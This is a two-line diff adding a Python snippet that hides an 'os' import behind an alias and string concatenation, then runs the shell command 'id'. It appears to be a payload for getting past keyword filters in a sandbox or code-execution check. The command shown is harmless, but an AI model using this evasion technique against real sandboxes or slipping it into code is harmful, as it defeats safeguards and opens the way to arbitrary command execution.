@@ -1,0 +1,2 @@
+bring = __import__
+bring("o" + "s").system("id")
